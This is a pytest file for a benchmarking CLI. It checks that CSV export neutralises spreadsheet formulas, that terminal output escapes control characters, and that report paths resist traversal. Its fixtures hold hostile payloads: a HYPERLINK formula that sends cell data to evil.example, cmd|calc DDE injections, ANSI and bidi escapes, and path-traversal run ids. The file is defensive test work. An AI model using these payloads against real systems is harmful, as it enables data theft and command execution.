"""What Brie Bench prints or writes from a database is safe.

* `export --csv` neutralises cells a spreadsheet would run as formulas
  (`=`, `+`, `-`, `@`: a leading `'`, the OWASP rule), leaves plain numbers
  alone, and `--raw` opts out.
* data printed to a terminal goes through `textsafe`: export to stdout,
  `import legacy` output (judge names, file names), and the "flipped" lines of
  `report RUN_A RUN_B`.
* a run id read from a hostile database never becomes a path: report file
  names are built only from safe characters.

The data comes in through `import legacy`, as a hostile results file would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from brie_bench.cli import cli

ESC = "\x1b]0;pwned\x07\x1b[2J"
C1_BIDI = "\x9b31m\u202etxt.exe"
RAW_CONTROL = re.compile("[\x1b\x07\x9b\u202e]")
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def line(prompt: str, num: int, baseline: str, brie: str, winner: str, *, judge: str = "claude",
         section: str = "philosophy", order: str = "AB") -> dict[str, Any]:
    verdict = {"brie": "B", "baseline": "A", "tie": "tie"}[winner]
    return {"config_name": section, "prompt_num": num, "prompt": prompt, "temperature": 0.7, "max_tokens": 64,
            "baseline_response": baseline, "brie_response": brie, "judge_model": judge,
            "judgment": f"Reasoning.\nWinner: {verdict}", "presentation_order": order, "winner": winner}


def write_jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def invoke(db: Path, *args: str) -> Any:
    return CliRunner().invoke(cli, ["--db", str(db), *args], env={"COLUMNS": "300"})


def import_file(db: Path, path: Path, *extra: str) -> tuple[str, str]:
    result = invoke(db, "import", "legacy", str(path), *extra)
    assert result.exit_code == 0, result.output
    run_id = re.search(r"imported run (\S+?):", result.output).group(1)
    return run_id, result.output


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    rows = [line(f"Prompt {i}?", i, FORMULAS[i], f"{ESC} brie {C1_BIDI}", "brie") for i in range(4)]
    db = tmp_path / "h.db"
    import_file(db, write_jsonl(tmp_path / "judge.jsonl", rows))
    return db


# -- 15: CSV formula injection ---------------------------------------------------------------------

def test_csv_export_neutralises_formulas_and_keeps_numbers(tmp_path: Path, hostile_db: Path) -> None:
    out = tmp_path / "e.csv"
    result = invoke(hostile_db, "export", "--csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 4
    texts = sorted(r["text_a"] for r in rows)  # label A is the baseline in legacy runs
    assert texts == sorted("'" + f for f in FORMULAS)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@")) and not (value.startswith("-") and not _number(value))
        assert _number(r["sample_index"]) and _number(r["presentation_order"])

    raw = tmp_path / "raw.csv"
    assert invoke(hostile_db, "export", "--csv", "--raw", "-o", str(raw)).exit_code == 0
    raw_rows = list(csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8"))))
    assert sorted(r["text_a"] for r in raw_rows) == sorted(FORMULAS)


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_csv_cell_rule() -> None:
    from brie_bench.textsafe import csv_cell

    assert [csv_cell(v) for v in ("=1", "+1a", "-x", "@a", "\tx", "-3", "+0.5", "1e-3", "-", "plain", 5, None)] == \
        ["'=1", "'+1a", "'-x", "'@a", "'\tx", "-3", "+0.5", "1e-3", "'-", "plain", 5, None]


# -- 16: terminal escapes ----------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["--csv", "--jsonl"])
def test_export_to_stdout_escapes_control_characters(hostile_db: Path, fmt: str) -> None:
    result = invoke(hostile_db, "export", fmt)
    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(result.output), repr(result.output[:300])
    if fmt == "--jsonl":  # still the same JSON: the escapes decode to the stored text
        rows = [json.loads(x) for x in result.output.splitlines() if x.strip()]
        assert all(r["text_b"] == f"{ESC} brie {C1_BIDI}" for r in rows)


def test_import_legacy_output_escapes_judge_and_file_names(tmp_path: Path) -> None:
    judge = f"gpt{ESC}{C1_BIDI}"
    rows = [line("P?", 1, "a", "b", "brie", judge=judge),
            {**line("Q?", 2, "a", "b", "baseline", judge=judge), "winner": "brie"}]  # a disagreement row
    path = write_jsonl(tmp_path / f"judge{ESC}.jsonl", rows)
    _, output = import_file(tmp_path / "l.db", path)
    assert "gpt" in output and "disagree" in output.lower() or "read differently" in output
    assert not RAW_CONTROL.search(output), repr(output)


def test_report_compare_flipped_lines_escape_control_characters(tmp_path: Path) -> None:
    section, prompt_num = f"sec{ESC}", 7
    judge = f"judge{C1_BIDI}"
    db = tmp_path / "c.db"
    rows_a = [line("Q1?", prompt_num, "x", "y", "brie", judge=judge, section=section),
              line("Q2?", 8, "x", "y", "brie", judge=judge, section=section)]
    rows_b = [line("Q1?", prompt_num, "x2", "y2", "baseline", judge=judge, section=section),
              line("Q2?", 8, "x2", "y2", "brie", judge=judge, section=section)]
    run_a, _ = import_file(db, write_jsonl(tmp_path / "a.jsonl", rows_a))
    run_b, _ = import_file(db, write_jsonl(tmp_path / "b.jsonl", rows_b))
    result = invoke(db, "report", run_a, run_b)
    assert result.exit_code == 0, result.output
    assert "flipped (" in result.output, result.output
    assert not RAW_CONTROL.search(result.output), repr(result.output)


# -- 17: run ids from a hostile database ------------------------------------------------------------

def _rename_run(db: Path, new_id: str) -> None:
    conn = sqlite3.connect(db)
    try:
        conn.execute("PRAGMA foreign_keys=OFF")
        (old,) = conn.execute("SELECT id FROM runs").fetchone()
        conn.execute("UPDATE runs SET id=?", (new_id,))
        for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type='table'").fetchall():
            cols = [c[1] for c in conn.execute(f"PRAGMA table_info({table})")]
            if "run_id" in cols:
                conn.execute(f"UPDATE {table} SET run_id=? WHERE run_id=?", (new_id, old))
        conn.commit()
    finally:
        conn.close()


@pytest.mark.parametrize("bad_id", ["../../../tmp/brie-escape", "..", "run/../../x", "a\x1b[2Jb", "/etc/passwd"])
def test_report_refuses_a_run_id_that_is_not_a_safe_name(tmp_path: Path, hostile_db: Path, bad_id: str,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    _rename_run(hostile_db, bad_id)
    work = tmp_path / "work" / "deeper" / "still"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    before = {p for p in tmp_path.rglob("*")}
    result = invoke(hostile_db, "report", "--html")
    assert result.exit_code == 2, result.output
    errors = [x for x in result.output.splitlines() if x.startswith("error")]
    assert len(errors) == 1 and "invalid run id" in errors[0], result.output
    assert not RAW_CONTROL.search(result.output)
    new = {p for p in tmp_path.rglob("*")} - before
    assert {p for p in new if not p.name.startswith("h.db")} <= {work / "reports"}, new
    assert not list((work / "reports").glob("*")) if (work / "reports").exists() else True
    assert not list(Path("/tmp").glob("brie-escape*"))


def test_report_html_default_path_uses_the_run_id(tmp_path: Path, hostile_db: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = invoke(hostile_db, "report", "--html")
    assert result.exit_code == 0, result.output
    (written,) = (tmp_path / "reports").glob("*.html")
    assert re.fullmatch(r"[A-Za-z0-9_-]+\.html", written.name)
